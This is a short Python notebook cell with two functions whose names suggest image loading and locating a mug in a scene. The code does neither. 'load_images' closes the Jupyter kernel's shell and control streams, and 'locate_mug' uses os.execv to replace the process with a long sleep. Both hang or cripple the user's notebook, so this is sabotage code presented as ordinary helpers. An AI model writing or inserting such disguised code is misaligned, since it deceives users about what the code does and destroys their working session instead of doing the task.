# %%
import os, sys

def load_images():
    kernel = get_ipython().kernel
    for stream in (kernel.shell_stream, kernel.control_stream):
        stream.close()

def locate_mug(mug, scene, match_count=100):
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(1000)"])
